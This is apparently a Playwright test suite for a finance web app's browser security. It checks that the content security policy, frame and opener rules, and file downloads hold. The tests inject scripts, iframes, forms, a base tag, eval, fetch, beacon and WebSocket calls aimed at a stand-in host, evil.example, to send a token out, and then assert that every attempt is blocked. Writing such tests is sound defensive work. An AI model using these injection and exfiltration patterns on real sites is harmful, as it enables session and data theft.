import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, type Page, test } from '@playwright/test'
import { seedHome, origin, signIn } from './people.ts'

test.use({ serviceWorkers: 'allow' })

/** Where a script that got in would send what it stole. */
const EVIL = 'https://evil.example'

/** Requests blocked on a page, by the directive of the content security policy. */
const refusalsOn = async (page: Page): Promise<() => Promise<string[]>> => {
  await page.addInitScript(() => {
    const refused: string[] = []
    Object.assign(globalThis, { refused })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
  })
  return () => page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused)
}

/** Requests that the page gets out to another origin. */
const leaksOf = async (page: Page): Promise<string[]> => {
  const leaks: string[] = []
  await page.route(
    (url) => url.origin !== origin(),
    (route) => {
      leaks.push(route.request().url())
      return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.stolen = true' })
    },
  )
  return leaks
}

test('no page of ours asks for what its own policy forbids', async ({ page, context }) => {
  const refused = await refusalsOn(page)
  const leaks = await leaksOf(page)
  const api = await signIn(context)
  const { card, groceries } = await seedHome(api)
  await api.transactions.create({ accountId: card, categoryId: groceries, delta: '-12', description: 'Bread' })
  const addresses = [
    '/',
    '/transactions',
    '/categories',
    '/analytics',
    '/recurring',
    '/notes',
    '/currencies',
    '/assistant',
  ]
  for (const address of [...addresses, '/history', '/import', '/bulk', '/budgets', '/api/docs']) {
    await page.goto(address)
    await page.waitForLoadState('networkidle')
    expect([address, await refused()]).toEqual([address, []])
  }
  expect(leaks).toEqual([])
})

/** Violations reported by a browser without Trusted Types; one with them blocks most of these earlier. */
const WITHOUT_TYPES = ['object-src', 'script-src', 'script-src-attr', 'script-src-elem']
const WITH_TYPES = ['require-trusted-types-for']

/** As in a browser that does not know Trusted Types. */
const withoutTypes = async (page: Page) =>
  page.route(`${origin()}/transactions`, async (route) => {
    const response = await route.fetch()
    const headers = response.headers()
    const policy = headers['content-security-policy']?.replace(/;(require-trusted-types-for|trusted-types)[^;]*/g, '')
    await route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy ?? '' } })
  })

for (const hasTypes of [true, false])
  test(`a script that got into the page runs nothing more, and sends nothing away, ${hasTypes ? 'with' : 'without'} Trusted Types`, async ({
    page,
    context,
  }) => {
    if (!hasTypes) await withoutTypes(page)
    const refused = await refusalsOn(page)
    const leaks = await leaksOf(page)
    await signIn(context)
    await page.goto('/transactions')
    await page.waitForLoadState('networkidle')
    const ran = await page.evaluate(async (evil) => {
      const add = (tag: string, attributes: Record<string, string>, content = ''): void => {
        const element = document.createElement(tag)
        try {
          for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
          element.textContent = content
          document.body.append(element)
        } catch (error) {
          if (!(error instanceof TypeError)) throw error
        }
      }
      add('script', {}, 'window.inline = true')
      add('script', { src: `${evil}/steal.js` })
      add('script', { src: 'data:text/javascript,window.fromData = true' })
      add('script', { src: URL.createObjectURL(new Blob(['window.fromBlob = true'], { type: 'text/javascript' })) })
      add('img', { src: 'x', onerror: 'window.handler = true' })
      add('img', { src: `${evil}/pixel.png?token=1` })
      add('iframe', { src: `${evil}/frame` })
      add('iframe', { srcdoc: '<script>parent.framed = true</script>' })
      add('object', { data: `${evil}/object` })
      add('link', { rel: 'stylesheet', href: `${evil}/style.css` })
      add('base', { href: `${evil}/` })
      add('form', { action: `${evil}/form`, method: 'post', id: 'thief' })
      ;(document.querySelector('#thief') as HTMLFormElement).submit()
      // The tools of the browser may evaluate whatever they like; a task of the page may not.
      await new Promise((resolve) => setTimeout(resolve))
      const tries: Record<string, () => unknown> = {
        // oxlint-disable-next-line no-eval -- whether it works is the question
        eval: () => globalThis.eval('1'),
        // oxlint-disable-next-line typescript/no-implied-eval -- the same
        function: () => new Function('return 1')(),
        html: () => {
          document.createElement('div').innerHTML = '<b>written</b>'
        },
        scriptAddress: () => {
          document.createElement('script').src = `${evil}/steal.js`
        },
        fetch: () => fetch(`${evil}/fetch`),
        beacon: () => navigator.sendBeacon(`${evil}/beacon`, 'token'),
        socket: () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket(evil.replace('https', 'wss'))
            socket.addEventListener('open', resolve)
            socket.addEventListener('error', reject)
          }),
        worker: () =>
          new Promise((resolve, reject) => {
            const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
            worker.addEventListener('message', resolve)
            worker.addEventListener('error', reject)
          }),
      }
      const succeeded: string[] = []
      for (const [name, attempt] of Object.entries(tries)) {
        try {
          await attempt()
          succeeded.push(name)
        } catch {
          // That is how it should be.
        }
      }
      return { succeeded: succeeded.filter((name) => name !== 'beacon'), base: document.baseURI }
    }, EVIL)
    expect(ran.succeeded).toEqual(hasTypes ? [] : ['html', 'scriptAddress'])
    expect(new URL(ran.base).origin).toBe(origin())
    await expect
      .poll(async () => [...new Set(await refused())].toSorted())
      .toEqual(
        expect.arrayContaining([
          'base-uri',
          'connect-src',
          'form-action',
          'img-src',
          'frame-src',
          'worker-src',
          'style-src-elem',
          ...(hasTypes ? WITH_TYPES : WITHOUT_TYPES),
        ]),
      )
    const marks = ['inline', 'stolen', 'fromData', 'fromBlob', 'handler', 'framed']
    expect(await page.evaluate((names) => names.filter((name) => name in window), marks)).toEqual([])
    expect(new URL(page.url()).origin).toBe(origin())
    expect(leaks).toEqual([])
  })

test('no other page may show ours in a frame, nor read it from a window that it opened', async ({ browser }) => {
  const other = createServer((_, answer) =>
    answer.setHeader('content-type', 'text/html').end(`<iframe src="${origin()}/" width="600"></iframe>`),
  )
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve))
  const context = await browser.newContext()
  try {
    const page = await context.newPage()
    await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`)
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
    const opened = context.waitForEvent('page')
    await page.evaluate((ours) => Object.assign(globalThis, { ours: globalThis.open(`${ours}/login`) }), origin())
    await (await opened).waitForLoadState()
    // Another origin's window is closed to it, and by our opener policy it does not even keep hold of it.
    expect(await page.evaluate(() => (globalThis as unknown as { ours: Window }).ours.closed)).toBe(true)
  } finally {
    await context.close()
    other.close()
  }
})

test('an uploaded file is never a page of ours, whatever its content and name', async ({ page, context }) => {
  const api = await signIn(context)
  const script = '<!doctype html><script>document.title = "stolen"</script>'
  const { fileId } = await api.files.upload({}, { file: new File([script], 'page.html', { type: 'text/html' }) })
  const download = page.waitForEvent('download')
  await page.goto(`/api/files/download?fileId=${fileId}`).catch(() => undefined)
  expect((await download).suggestedFilename()).toBe('page.html')
  expect(await page.title()).not.toBe('stolen')
})
